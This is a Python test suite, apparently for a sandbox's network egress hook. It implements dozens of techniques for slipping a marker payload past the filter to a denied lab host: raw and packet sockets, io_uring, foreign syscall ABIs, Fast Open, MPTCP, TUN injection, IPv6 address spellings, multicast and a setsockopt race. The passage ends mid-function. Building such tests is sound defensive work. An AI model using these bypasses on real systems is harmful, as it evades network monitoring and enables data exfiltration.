# SPDX-License-Identifier: GPL-2.0-or-later
"""Section A of THREATS.md: every way to send that a hook might not see."""
import ctypes
import errno
import fcntl
import mmap
import os
import signal
import socket
import struct
import subprocess
import time

import calls
from calls import AF_INET, AF_INET6, sockaddr
from technique import EVIL4, GOOD4, GOOD6, SELF4, NotHere, heard, resolve, technique

IP, IPV6, TCP, UDP = socket.IPPROTO_IP, socket.IPPROTO_IPV6, socket.IPPROTO_TCP, socket.IPPROTO_UDP
SOCKET = socket.SOL_SOCKET


def targets(t):
    """The target over IPv4, over IPv6, and over IPv4 on an IPv6 socket."""
    return {"4": t.host4, "6": t.host6, "mapped": f"::ffff:{t.host4}"}


def missing(function, *arguments):
    """A call that fails, outside too, on kernels that lack what it is for."""
    try:
        return function(*arguments)
    except OSError as error:
        if error.errno in (92, 93, 94, 95, 97, 22):  # no such option, protocol, type, operation, family; EINVAL
            raise NotHere(f"{os.strerror(error.errno)}") from error
        raise


# ---- A1: every call that sends ------------------------------------------------------------------


def through_pipe(sock, data):
    reader, writer = os.pipe()
    os.write(writer, data)
    calls.splice(reader, sock)


def through_file(sock, data):
    fd = os.memfd_create("data")
    os.write(fd, data)
    os.sendfile(sock.fileno(), fd, 0, len(data))


def through_tee(sock, data):
    (reader, writer), (reader2, writer2) = os.pipe(), os.pipe()
    os.write(writer, data)
    calls.checked(calls.LIBC.tee(reader, writer2, ctypes.c_size_t(65536), 0))
    calls.splice(reader2, sock)


def or_send(call):
    """Refused where the hook cannot tell pages that may still change: goes on as programs do."""
    def function(sock, data):
        try:
            call(sock, data)
        except OSError as error:
            if error.errno != errno.EINVAL:
                raise
            sock.send(data)
    return function


# what they hand over counts behind the first bytes, which are what is judged
PAGES = ("splice", "sendfile", "vmsplice", "tee")
CONNECTED = {
    "send": lambda sock, data: sock.send(data),
    "write": lambda sock, data: os.write(sock.fileno(), data),
    "writev": lambda sock, data: os.writev(sock.fileno(), [data[:5], data[5:]]),
    "sendmsg": lambda sock, data: sock.sendmsg([data[:5], data[5:]]),
    "sendmmsg": lambda sock, data: calls.sendmmsg(sock, [(data, None)]),
    "splice": or_send(through_pipe),
    "sendfile": or_send(through_file),
    "vmsplice": or_send(lambda sock, data: calls.vmsplice(data, sock)),
    "tee": or_send(through_tee),
}
ADDRESSED = {
    "sendto": lambda sock, data, host, port: sock.sendto(data, (host, port)),
    "sendmsg": lambda sock, data, host, port: sock.sendmsg([data], [], 0, (host, port)),
    "sendmmsg": lambda sock, data, host, port: calls.sendmmsg(sock, [(data, sockaddr(host, port))]),
}


def every_call(kind, family, call):
    def connected(t):
        host = targets(t)[family]
        sock = t.connect(host=host) if kind == "tcp" else t.udp(AF_INET6 if ":" in host else AF_INET)
        if kind == "udp":
            sock.connect((host, t.port))
        elif call in PAGES:
            sock.send(b"first")
        CONNECTED[call](sock, t.marker)

    def addressed(t):
        host = targets(t)[family]
        ADDRESSED[call](t.udp(AF_INET6 if ":" in host else AF_INET), t.marker, host, t.port)

    how = {"4": "IPv4", "6": "IPv6", "mapped": "IPv4 by an IPv6 socket"}[family]
    if kind == "to":
        addressed.__doc__ = f"{call}() of a datagram to an address, {how}"
        technique("A1", f"{call}-to-{family}")(addressed)
    else:
        connected.__doc__ = f"{call}() on a connected {kind.upper()} socket, {how}"
        technique("A1", f"{call}-{kind}-{family}")(connected)


for _family in ("4", "6", "mapped"):
    for _call in ADDRESSED:
        every_call("to", _family, _call)
    for _call in CONNECTED:
        every_call("tcp", _family, _call)
        if _family != "mapped" or _call in ("send", "splice"):
            every_call("udp", _family, _call)


@technique("A1", "unspec")
def unspec(t):
    """sendto() to an address of family AF_UNSPEC, which the kernel takes for IPv4"""
    calls.sendto(t.udp(), t.marker, sockaddr(t.host4, t.port, 0))


@technique("A1", "v4-on-v6")
def v4_on_v6(t):
    """sendto() to a sockaddr_in on an IPv6 socket"""
    calls.sendto(t.udp(AF_INET6), t.marker, sockaddr(t.host4, t.port))


@technique("A1", "connected-elsewhere")
def connected_elsewhere(t):
    """a datagram to another address on a socket connected to an allowed one"""
    sock = t.udp()
    sock.connect(resolve("good.test", t.port, AF_INET)[0])
    sock.send(b"first")
    sock.sendto(t.marker, (t.host4, t.port))


@technique("A1", "second-of-two")
def second_of_two(t):
    """the second datagram of a sendmmsg() whose first is allowed"""
    allowed = resolve("good.test", t.port, AF_INET)[0]
    calls.sendmmsg(t.udp(), [(b"first", sockaddr(*allowed)), (t.marker, sockaddr(t.host4, t.port))])


@technique("A1", "reconnect-udp")
def reconnect_udp(t):
    """a datagram socket connected to an allowed address, then to another"""
    sock = t.udp()
    sock.connect(resolve("good.test", t.port, AF_INET)[0])
    sock.send(b"first")
    calls.disconnect(sock)
    sock.connect((t.host4, t.port))
    sock.send(t.marker)


@technique("A1", "reconnect-tcp")
def reconnect_tcp(t):
    """a TCP socket connected to an allowed address, then to another"""
    sock = t.tcp()
    sock.connect(resolve("good.test", t.port, AF_INET)[0])
    sock.send(b"first")
    calls.disconnect(sock)
    sock.connect((t.host4, t.port))
    sock.send(t.marker)


@technique("A1", "was-listener")
def was_listener(t):
    """a socket that listened, and whose packets were answers, connects"""
    sock = t.tcp()
    sock.listen()
    calls.disconnect(sock)
    sock.connect((t.host4, t.port))
    sock.send(t.marker)


@technique("A1", "was-accepted")
def was_accepted(t):
    """a socket that was accepted connects"""
    listener, client = t.tcp(), t.tcp()
    listener.listen()
    client.connect(("127.0.0.1", listener.getsockname()[1]))
    sock = listener.accept()[0]
    sock.settimeout(t.wait)
    calls.disconnect(sock)
    sock.connect((t.host4, t.port))
    sock.send(t.marker)


@technique("A1", "cork")
def cork(t):
    """a datagram put together with MSG_MORE, addressed again at its last part"""
    sock = t.udp()
    resolve("good.test")
    try:
        sock.sendto(b"one", socket.MSG_MORE, (t.host4, t.port))
    except OSError:
        sock.sendto(b"one", socket.MSG_MORE, (GOOD4, t.port))
    sock.sendto(b"two", (t.host4, t.port))


@technique("A1", "addrform")
def addrform(t):
    """an IPv6 socket turned into an IPv4 one (IPV6_ADDRFORM) after it was connected"""
    sock = t.udp(AF_INET6)
    resolve("good.test")
    sock.connect((f"::ffff:{GOOD4}", t.port))
    sock.setsockopt(IPV6, 1, AF_INET)  # IPV6_ADDRFORM
    calls.sendto(sock, t.marker, sockaddr(t.host4, t.port))


@technique("A1", "fork")
def fork(t):
    """a grandchild in a session of its own, when its parents are gone"""
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                t.udp().sendto(t.marker, (t.host4, t.port))
            finally:
                os.write(writer, b".")
                os._exit(0)
        os._exit(0)
    os.wait()
    os.read(reader, 1)


@technique("A1", "dontroute")
def dontroute(t):
    """MSG_DONTROUTE and SO_DONTROUTE"""
    sock = t.udp()
    sock.setsockopt(SOCKET, socket.SO_DONTROUTE, 1)
    sock.sendto(t.marker, socket.MSG_DONTROUTE, (t.host4, t.port))


@technique("A1", "broadcast", oracle="marker", allow=False)
def broadcast(t):
    """to 255.255.255.255, and to the network's broadcast address"""
    sock = t.udp()
    sock.setsockopt(SOCKET, socket.SO_BROADCAST, 1)
    errors = []
    for address in ("255.255.255.255", "198.18.0.255"):
        try:
            sock.sendto(t.marker, (address, t.port))
        except OSError as error:
            errors.append(error)
    if errors:
        raise errors[0]


@technique("A1", "multicast4", oracle="marker", allow=False)
def multicast4(t):
    """to an IPv4 multicast group (IP_MULTICAST_IF, IP_MULTICAST_TTL)"""
    sock = t.udp()
    sock.setsockopt(IP, socket.IP_MULTICAST_IF, socket.inet_aton(SELF4))
    sock.setsockopt(IP, socket.IP_MULTICAST_TTL, 4)
    sock.sendto(t.marker, ("239.1.2.3", t.port))


@technique("A1", "multicast6", oracle="marker", allow=False)
def multicast6(t):
    """to every node of the link, ff02::1"""
    sock = t.udp(AF_INET6)
    sock.sendto(t.marker, ("ff02::1", t.port, 0, socket.if_nametoindex("eth0")))


@technique("A1", "mdns", oracle="marker", allow=False)
def mdns(t):
    """a name asked of everybody on the link: mDNS and LLMNR"""
    query = b"\0\0\0\0\0\1\0\0\0\0\0\0" + bytes([len(t.marker)]) + t.marker + b"\5local\0\0\1\0\1"
    error = None
    for address, port in (("224.0.0.251", 5353), ("224.0.0.252", 5355)):
        try:
            t.udp().sendto(query, (address, port))
        except OSError as why:
            error = why
    if error:
        raise error


# ---- A16: what the kernel sends by itself -------------------------------------------------------


def group6(t):
    return b"\xff\x1e" + t.marker + b"\0\0"


@technique("A16", "join6", oracle="marker", allow=False)
def join6(t):
    """data in a multicast group's address, which the kernel reports to the link (MLD): IPV6_JOIN_GROUP"""
    t.udp(AF_INET6).setsockopt(IPV6, 20, group6(t) + struct.pack("=I", socket.if_nametoindex("eth0")))
    time.sleep(0.05 * t.wait)


@technique("A16", "join6-any", oracle="marker", allow=False)
def join6_any(t):
    """the same by MCAST_JOIN_GROUP"""
    address = struct.pack("=HHI", AF_INET6, 0, 0) + group6(t) + bytes(104)
    t.udp(AF_INET6).setsockopt(IPV6, 42, struct.pack("=I4x", socket.if_nametoindex("eth0")) + address)
    time.sleep(0.05 * t.wait)


@technique("A16", "join4-sources", oracle="marker", allow=False)
def join4_sources(t):
    """data in the sources wanted of an IPv4 group (IGMPv3): IP_MSFILTER, 4 bytes each"""
    sock = t.udp()
    group, here = socket.inet_aton("239.9.9.9"), socket.inet_aton(SELF4)
    sources = [t.marker[at:at + 4] for at in range(0, 12, 4)]
    sock.setsockopt(IP, socket.IP_ADD_MEMBERSHIP, group + here)
    sock.setsockopt(IP, 41, group + here + struct.pack("=II", 1, 3) + b"".join(sources))  # IP_MSFILTER, MCAST_INCLUDE
    time.sleep(0.3 * t.wait)


# ---- A2: TCP Fast Open ---------------------------------------------------------------------------


@technique("A2", "msg-fastopen")
def msg_fastopen(t):
    """data in the SYN: sendto() with MSG_FASTOPEN"""
    t.tcp().sendto(t.marker, 0x20000000, (t.host4, t.port))


@technique("A2", "msg-fastopen6")
def msg_fastopen6(t):
    """data in the SYN: sendmsg() with MSG_FASTOPEN, IPv6"""
    t.tcp(AF_INET6).sendmsg([t.marker], [], 0x20000000, (t.host6, t.port))


@technique("A2", "fastopen-connect")
def fastopen_connect(t):
    """data in the SYN: TCP_FASTOPEN_CONNECT, where connect() sends nothing yet"""
    sock = t.tcp()
    sock.setsockopt(TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
    sock.connect((t.host4, t.port))
    sock.send(t.marker)


@technique("A2", "fastopen-unspec")
def fastopen_unspec(t):
    """data in the SYN, to an address of family AF_UNSPEC on a socket that was connected before"""
    sock = t.tcp()
    sock.connect(resolve("good.test", t.port, AF_INET)[0])
    calls.disconnect(sock)
    sock.sendto(t.marker, 0x20000000, (t.host4, t.port))


@technique("A2", "fastopen-host", oracle="marker")
def fastopen_host(t):
    """data in the SYN: the HTTP request of a host that is not allowed, to a shared address"""
    host = resolve("one.cdn.test", 80, AF_INET)[0]
    name = "one.cdn.test" if t.allowed else "two.cdn.test"
    request = f"GET /{t.marker.decode()} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode()
    t.tcp().sendto(request, 0x20000000, host)


# ---- A3: io_uring --------------------------------------------------------------------------------


def by_uring(how, what):
    def run(t):
        t.run("uring", how, t.host4, t.port, t.marker)

    run.__doc__ = what
    technique("A3", f"uring-{how}", allow=False)(run)


by_uring("connect", "io_uring: IORING_OP_CONNECT and IORING_OP_SEND, TCP")
by_uring("send", "io_uring: the same on a datagram socket")
by_uring("sendmsg", "io_uring: IORING_OP_SENDMSG with an address")
by_uring("sendto", "io_uring: IORING_OP_SEND_ZC with an address")
by_uring("send_zc", "io_uring: IORING_OP_SEND_ZC on a connected socket")
by_uring("socket", "io_uring: a socket made by IORING_OP_SOCKET")


# ---- A4, A5: raw and packet sockets --------------------------------------------------------------


def datagram(t, port=None):
    return struct.pack("!HHHH", 1234, t.port if port is None else port, 8 + len(t.marker), 0) + t.marker


def packet4(t, payload, protocol=17):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0,
                         socket.inet_aton(SELF4), socket.inet_aton(t.host4))
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xffff) + (total >> 16)
    return header[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xffff) + header[12:] + payload


@technique("A4", "raw-udp", allow=False)
def raw_udp(t):
    """a raw socket of protocol UDP"""
    t.sock(AF_INET, socket.SOCK_RAW, UDP).sendto(datagram(t), (t.host4, 0))


@technique("A4", "raw-tcp", allow=False)
def raw_tcp(t):
    """a raw socket of protocol TCP"""
    head = struct.pack("!HHIIBBHHH", 1234, t.port, 1, 0, 0x50, 2, 1024, 0, 0)
    t.sock(AF_INET, socket.SOCK_RAW, TCP).sendto(head + t.marker, (t.host4, 0))


@technique("A4", "hdrincl", allow=False)
def hdrincl(t):
    """IP_HDRINCL: the whole IPv4 header from user space"""
    sock = t.sock(AF_INET, socket.SOCK_RAW, UDP)
    sock.setsockopt(IP, socket.IP_HDRINCL, 1)
    sock.sendto(packet4(t, datagram(t)), (t.host4, 0))


@technique("A4", "hdrincl-other", allow=False)
def hdrincl_other(t):
    """IPPROTO_RAW: the header names another address than sendto() does"""
    t.sock(AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(packet4(t, datagram(t)), (GOOD4, 0))


@technique("A4", "raw6", allow=False)
def raw6(t):
    """a raw IPv6 socket of protocol UDP"""
    sock = t.sock(AF_INET6, socket.SOCK_RAW, UDP)
    sock.setsockopt(IPV6, 7, 6)  # IPV6_CHECKSUM
    sock.sendto(datagram(t), (t.host6, 0))


@technique("A4", "raw-icmp", allow=False, oracle="marker")
def raw_icmp(t):
    """a raw socket of protocol ICMP"""
    t.sock(AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(echo(t), (t.host4, 0))


@technique("A4", "raw-from-user-namespace", allow=False, oracle="word")
def raw_from_user_namespace(t):
    """a raw socket where a user namespace of its own gives CAP_NET_RAW"""
    in_user_namespace(lambda: t.sock(AF_INET, socket.SOCK_RAW, UDP))
    return True


def in_user_namespace(action, flags=calls.CLONE_NEWNET):
    try:
        calls.new_user(flags)
    except OSError as error:
        raise NotHere(f"no user namespaces: {error}") from error
    return action()


def ethernet(t):
    return b"\xff" * 6 + b"\2\0\0\0\0\1\x08\0" + packet4(t, datagram(t))


@technique("A5", "packet-raw", allow=False)
def packet_raw(t):
    """AF_PACKET, whole frames"""
    sock = t.sock(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    sock.bind(("eth0", 0x0800))
    sock.send(ethernet(t))


@technique("A5", "packet-qdisc-bypass", allow=False)
def packet_qdisc_bypass(t):
    """AF_PACKET with PACKET_QDISC_BYPASS"""
    sock = t.sock(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.setsockopt(263, 20, 1)  # SOL_PACKET, PACKET_QDISC_BYPASS
    sock.sendto(ethernet(t), ("eth0", 0x0800))


@technique("A5", "packet-dgram", allow=False)
def packet_dgram(t):
    """AF_PACKET, packets without their Ethernet header"""
    sock = t.sock(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    sock.sendto(packet4(t, datagram(t)), ("eth0", 0x0800, 0, 0, b"\xff" * 6))


@technique("A5", "sock-packet", allow=False)
def sock_packet(t):
    """the old spelling: AF_INET with type SOCK_PACKET"""
    sock = t.sock(AF_INET, 10, socket.htons(0x0800))
    calls.sendto(sock, ethernet(t), struct.pack("=H14sH", AF_INET, b"eth0", socket.htons(0x0800)))


@technique("A5", "packet-high-bits", allow=False)
def packet_high_bits(t):
    """AF_PACKET with bits set above the 32 that the kernel looks at"""
    fd = calls.syscall(41, socket.AF_PACKET | 1 << 32, socket.SOCK_RAW | 1 << 36, 0)
    socket.socket(fileno=fd).sendto(ethernet(t), ("eth0", 0x0800))


@technique("A5", "packet-in-user-namespace", allow=False, oracle="word")
def packet_in_user_namespace(t):
    """AF_PACKET where a user namespace of its own gives CAP_NET_RAW"""
    in_user_namespace(lambda: t.sock(socket.AF_PACKET, socket.SOCK_RAW, 0))
    return True


# ---- A6: families --------------------------------------------------------------------------------

USUAL = (socket.AF_UNIX, AF_INET, AF_INET6, socket.AF_NETLINK)


def sweep(make):
    opened = []
    for family in range(64):
        if family in USUAL:
            continue
        for kind in (1, 2, 3, 5, 10):
            try:
                make(family, kind)
                opened.append(str(family))
                break
            except OSError:
                pass
    if not opened:
        raise OSError(97, "no family opens")
    return "families " + " ".join(opened)


@technique("A6", "socket", allow=False, oracle="word")
def families_socket(t):
    """every family but UNIX, INET, INET6, NETLINK, by socket()"""
    return sweep(lambda family, kind: t.sock(family, kind).close())


@technique("A6", "socketpair", allow=False, oracle="word")
def families_socketpair(_):
    """every such family by socketpair()"""
    pair = (ctypes.c_int * 2)()
    try:
        return sweep(lambda family, kind: calls.checked(calls.LIBC.socketpair(family, kind, 0, pair)))
    except OSError as error:
        raise NotHere("no family here has pairs") from error


def families_by(name, what, *command):
    def run(t):
        opened = t.run(*command)
        if not opened:
            raise OSError(97, "no family opens")
        return f"families {opened}"

    run.__doc__ = what
    technique("A6", name, allow=False, oracle="word")(run)


families_by("uring", "every such family by io_uring's IORING_OP_SOCKET", "uring", "families")
families_by("i386", "every such family by the i386 ABI (int 0x80)", "abi", "i386", "families")
families_by("socketcall", "every such family by i386's socketcall(), arguments in memory", "abi", "socketcall", "families")
families_by("x32", "every such family by the x32 ABI", "abi", "x32", "families")
families_by("high-bits", "every such family with bits set above the low 32", "abi", "high", "families")


def foreign(abi, what):
    def run(t):
        t.run("abi", abi, "send", t.host4, t.port, t.marker)

    run.__doc__ = what
    technique("A6", f"{abi}-send", allow=False)(run)


foreign("i386", "a datagram sent by the i386 ABI")
foreign("socketcall", "a datagram sent by i386's socketcall()")
foreign("x32", "a datagram sent by the x32 ABI")


@technique("A6", "vsock", allow=False, oracle="word")
def vsock(t):
    """AF_VSOCK, which reaches the hypervisor and needs no privilege"""
    missing(t.sock, 40, socket.SOCK_STREAM)
    return True


@technique("A6", "alg", allow=False, oracle="word")
def alg(t):
    """AF_ALG"""
    missing(t.sock, 38, 5)
    return True


@technique("A6", "netlink", allow=False, oracle="word")
def netlink(t):
    """every NETLINK protocol but ROUTE"""
    opened = []
    for protocol in range(1, 32):
        try:
            t.sock(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
            opened.append(str(protocol))
        except OSError as error:
            last = error
    if not opened:
        raise last
    return "protocols " + " ".join(opened)


# ---- A7: devices ---------------------------------------------------------------------------------


def tun(flags, name=b"sptun%d"):
    fd = os.open("/dev/net/tun", os.O_RDWR)
    request = fcntl.ioctl(fd, 0x400454ca, struct.pack("16sH22x", name, flags | 0x1000))  # TUNSETIFF, IFF_NO_PI
    return fd, request[:16].rstrip(b"\0").decode()


def forwarded(t):
    """A datagram from an address behind this host."""
    packet = bytearray(packet4(t, datagram(t)))
    packet[12:16] = socket.inet_aton("203.0.113.9")
    packet[10:12] = b"\0\0"
    total = sum(struct.unpack("!10H", packet[:20]))
    total = (total & 0xffff) + (total >> 16)
    packet[10:12] = struct.pack("!H", ~(total + (total >> 16)) & 0xffff)
    return bytes(packet)


@technique("A7", "tun", allow=False, oracle="marker")
def tun_inject(t):
    """a packet written to a TUN device, for the kernel to forward"""
    try:
        fd, name = tun(1)
    except FileNotFoundError as error:
        raise NotHere("no /dev/net/tun") from error
    with open("/proc/sys/net/ipv4/conf/all/rp_filter") as file:
        if file.read().strip() == "1":
            raise NotHere("rp_filter is on")
    subprocess.run(["ip", "link", "set", name, "up"], check=True, stderr=subprocess.DEVNULL)
    os.write(fd, forwarded(t))


def persistent_tun(harness, t):
    """A TUN device of the host's that has no owner, as for a virtual machine."""
    name = f"sp{t.port}"
    here = ["nsenter", f"--net=/run/netns/{harness.client}", "sh", "-c"]
    done = subprocess.run([*here, f"ip tuntap add dev {name} mode tun && ip link set {name} up"], check=False,
                          stderr=subprocess.DEVNULL)
    yield
    if done.returncode == 0:
        subprocess.run([*here, f"ip link del {name}"], check=False)


@technique("A7", "tun-of-the-host", allow=False, oracle="marker", beside=persistent_tun)
def tun_of_the_host(t):
    """a packet written to a TUN device of the host's that belongs to nobody: needs no capability"""
    try:
        fd, _ = tun(1, f"sp{t.port}".encode())
    except FileNotFoundError as error:
        raise NotHere("no /dev/net/tun") from error
    os.write(fd, forwarded(t))


@technique("A7", "address", allow=False, oracle="word")
def address(_):
    """an address added to an interface, by netlink"""
    done = subprocess.run(["ip", "addr", "add", "198.18.0.77/32", "dev", "lo"], capture_output=True, text=True)
    if done.returncode:
        raise OSError(1, done.stderr.strip())
    subprocess.run(["ip", "addr", "del", "198.18.0.77/32", "dev", "lo"], check=True)
    return True


@technique("A7", "redirect", allow=False, oracle="word")
def redirect(_):
    """a firewall rule that rewrites where packets go"""
    done = subprocess.run(["nft", "add table ip spbypass; delete table ip spbypass"], capture_output=True, text=True)
    if done.returncode:
        raise OSError(1, done.stderr.strip().split("\n")[0])
    return True


# ---- A8, A9: other protocols ---------------------------------------------------------------------


@technique("A8", "mptcp", allow=False)
def mptcp(t):
    """Multipath TCP to the target"""
    sock = missing(t.sock, AF_INET, socket.SOCK_STREAM, 262)
    sock.connect((t.host4, t.port))
    sock.send(t.marker)


def mptcp_server(harness, t):
    """A server at the good address that announces the evil one, where it listens too."""
    serve = [f"{harness.top}/scripts/lab", "serve", harness.name]
    client = ["nsenter", f"--net=/run/netns/{harness.client}"]
    for command in ([*serve, "ip", "mptcp", "limits", "set", "subflow", "4", "add_addr_accepted", "4"],
                    [*client, "ip", "mptcp", "limits", "set", "subflow", "4", "add_addr_accepted", "4"],
                    [*serve, "ip", "mptcp", "endpoint", "add", EVIL4, "signal"]):
        subprocess.run(command, stderr=subprocess.DEVNULL, check=False)
    program = (f"import socket as s; l = s.socket(s.AF_INET, s.SOCK_STREAM, 262); l.bind(('', {t.port}));"
               "l.listen(); print('ready', flush=True); c = l.accept()[0]\nwhile c.recv(100): c.send(b'x')")
    server = subprocess.Popen([*serve, "/usr/bin/python3", "-c", program], stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL)
    server.stdout.readline()
    yield
    server.kill()
    server.wait()
    subprocess.run([*serve, "ip", "mptcp", "endpoint", "flush"], stderr=subprocess.DEVNULL, check=False)


@technique("A8", "announced", allow=False, sink=False, beside=mptcp_server)
def announced(t):
    """Multipath TCP to an allowed address, which announces one that is not: the kernel connects by itself"""
    sock = missing(t.sock, AF_INET, socket.SOCK_STREAM, 262)
    resolve("good.test")
    sock.connect((GOOD4, t.port))
    for _ in range(8):
        sock.send(b"x")
        sock.recv(10)


def other_protocol(name, what, kind, protocol):
    def run(t):
        sock = missing(t.sock, AF_INET, kind, protocol)
        sock.connect((t.host4, t.port))
        sock.send(t.marker)

    run.__doc__ = what
    technique("A9", name, allow=False)(run)


other_protocol("udplite", "UDP-Lite", socket.SOCK_DGRAM, 136)
other_protocol("sctp", "SCTP", socket.SOCK_STREAM, 132)


@technique("A9", "dccp", allow=False)
def dccp(t):
    """DCCP"""
    sock = missing(t.sock, AF_INET, 6, 33)
    sock.setsockopt(269, 2, struct.pack("!I", 42))  # DCCP_SOCKOPT_SERVICE
    sock.connect((t.host4, t.port))


def echo(t, kind=8):
    head = struct.pack("!BBHHH", kind, 0, 0, 1, 1) + t.marker + b"\0" * (len(t.marker) % 2)
    total = sum(struct.unpack(f"!{len(head) // 2}H", head))
    total = (total & 0xffff) + (total >> 16)
    return head[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xffff) + head[4:]


@technique("A9", "ping", allow=False, oracle="marker")
def ping(t):
    """data in an ICMP echo: a ping socket, which needs no privilege"""
    t.sock(AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(echo(t), (t.host4, 0))


@technique("A9", "ping6", allow=False, oracle="marker")
def ping6(t):
    """the same over IPv6"""
    t.sock(AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6).sendto(echo(t, 128), (t.host6, 0))


@technique("A9", "ping-program", allow=False, oracle="marker")
def ping_program(t):
    """the system's ping, which is set-uid or has file capabilities"""
    done = subprocess.run(["ping", "-c", "1", "-W", "1", "-p", t.marker.hex(), t.host4], capture_output=True, text=True)
    if done.returncode:
        raise OSError(1, done.stderr.strip())


@technique("A9", "protocols", allow=False, oracle="word")
def protocols(t):
    """every type and protocol of INET and INET6 but TCP and UDP"""
    opened = []
    for family in (AF_INET, AF_INET6):
        for kind in range(1, 7):
            for protocol in (*range(256), 256, 262):  # 256: SMC, 262: Multipath TCP
                if (kind, protocol) in ((1, 0), (1, 6), (2, 0), (2, 17)):
                    continue
                if kind != 3 and protocol not in (1, 6, 17, 33, 58, 132, 136, 256, 262):
                    continue  # what exists as other than raw
                try:
                    t.sock(family, kind, protocol).close()
                    opened.append(f"{kind}/{protocol}")
                except OSError as error:
                    last = error
    if not opened:
        raise last
    return f"{len(opened)} open"


# ---- A10: other spellings of an address ----------------------------------------------------------


def v4_words(host):
    a, b, c, d = socket.inet_aton(host)
    return f"{a:02x}{b:02x}:{c:02x}{d:02x}"


def spelled(name, form, what):
    def run(t):
        t.udp(AF_INET6).sendto(t.marker, (form(t.host4), t.port))

    run.__doc__ = f"{what} of a denied IPv4 address, where all of IPv6 is allowed"
    technique("A10", name, policy="forms", oracle="marker", allow=True)(run)


spelled("mapped", lambda host: f"::ffff:{host}", "the v4-mapped form (::ffff:a.b.c.d)")
spelled("nat64", lambda host: f"64:ff9b::{host}", "the NAT64 form (64:ff9b::/96)")
spelled("6to4", lambda host: f"2002:{v4_words(host)}::1", "the 6to4 form (2002::/16)")
spelled("teredo", lambda host: "2001:0:102:304:0:ffff:" + v4_words(socket.inet_ntoa(
    bytes(255 - byte for byte in socket.inet_aton(host)))), "the Teredo form (2001::/32)")
spelled("compatible", lambda host: f"::{host}", "the v4-compatible form (::a.b.c.d)")
spelled("translated", lambda host: f"::ffff:0:{host}", "the v4-translated form (::ffff:0:a.b.c.d)")


def local_use(bits):
    """RFC 6052 2.2: where a prefix of so many bits puts the address; the byte at 8 stays zero."""
    def form(host):
        packed = bytearray(bytes.fromhex("0064ff9b0001") + bytes(10))
        at = bits // 8
        for byte in socket.inet_aton(host):
            at += at == 8
            packed[at] = byte
            at += 1
        return socket.inet_ntop(AF_INET6, bytes(packed))
    return form


for bits in (48, 56, 64, 96):
    spelled(f"local-use-{bits}", local_use(bits), f"the local-use NAT64 form (64:ff9b:1::/48), prefix of {bits} bits,")


@technique("A10", "plain6", policy="forms", oracle="marker")
def plain6(t):
    """a denied IPv6 address, where all of IPv6 is allowed"""
    t.udp(AF_INET6).sendto(t.marker, (t.host6, t.port))


def link_local(harness, t):
    """Writes down the servers' link-local address, when both ends have theirs for sure."""
    for netns in (harness.client, harness.server):
        while True:
            done = subprocess.run(["ip", "-n", netns, "-6", "-o", "addr", "show", "dev", "eth0", "scope", "link"],
                                  capture_output=True, text=True, check=True)
            if "tentative" not in done.stdout:
                break
            time.sleep(0.1)
    with open(f"{harness.directory}/link-local", "w") as file:
        file.write(done.stdout.split()[3].split("/")[0])
    yield


@technique("A10", "link-local", oracle="marker", allow=False, beside=link_local)
def link_local_address(t):
    """the link-local address of a server's interface, with a scope"""
    with open(f"{t.directory}/link-local") as file:
        host = file.read()
    t.udp(AF_INET6).sendto(t.marker, (host, t.port, 0, socket.if_nametoindex("eth0")))


# ---- A11: options --------------------------------------------------------------------------------
# Those that are refused: outside, a datagram with the option goes to an allowed address; inside, whether the
# option took is seen by whether it was sent.


def option(name, what, level, number, value, family=AF_INET, kind="udp", **more):
    def run(t):
        sock = t.udp(family) if kind == "udp" else t.tcp(family)
        resolve("good.test")
        missing(sock.setsockopt, level, number, value)
        host = GOOD6 if family == AF_INET6 else GOOD4
        if kind == "udp":
            sock.sendto(t.marker, (host, t.port))
        else:
            sock.connect((host, t.port))
            sock.send(t.marker)

    run.__doc__ = f"{what}: set, and then data to an allowed address"
    technique("A11", name, oracle="marker", allow=False, **more)(run)


option("udp-segment", "UDP_SEGMENT, several datagrams in one send", UDP, 103, 6)
option("ttl", "IP_TTL 1", IP, socket.IP_TTL, 1, kind="tcp")
option("ttl-byte", "IP_TTL 1, as one byte", IP, socket.IP_TTL, b"\1", kind="tcp")
option("hops6", "IPV6_UNICAST_HOPS 1", IPV6, socket.IPV6_UNICAST_HOPS, 1, AF_INET6, "tcp")
option("bindtodevice", "SO_BINDTODEVICE", SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
option("bindtoifindex", "SO_BINDTOIFINDEX", SOCKET, 62, 2)
option("unicast-if", "IP_UNICAST_IF", IP, 50, socket.htonl(2))
option("unicast-if6", "IPV6_UNICAST_IF", IPV6, 76, socket.htonl(2), AF_INET6)
option("freebind", "IP_FREEBIND", IP, 15, 1)
option("freebind6", "IPV6_FREEBIND", IPV6, 78, 1, AF_INET6)
option("transparent", "IP_TRANSPARENT", IP, 19, 1)
option("transparent6", "IPV6_TRANSPARENT", IPV6, 75, 1, AF_INET6)
option("mark", "SO_MARK", SOCKET, 36, 7)
option("zerocopy", "SO_ZEROCOPY", SOCKET, 60, 1, kind="tcp")
option("v4-option-on-v6", "IP_FREEBIND on an IPv6 socket", IP, 15, 1, AF_INET6)


def changed(name, what, level, number, family=AF_INET):
    """An option longer than a page is read twice: by the program that judges it, and then by the kernel."""
    def run(t):
        resolve("good.test")
        sock = t.udp(family)
        memory = mmap.mmap(-1, 8192)
        memory[0] = 64
        address = ctypes.c_char.from_buffer(memory)
        pid = os.fork()
        if pid == 0:
            while os.getppid() != 1:
                for _ in range(1000):
                    memory[0] = 64
                    memory[0] = 1
            os._exit(0)
        try:
            over = time.monotonic() + 3 * t.wait
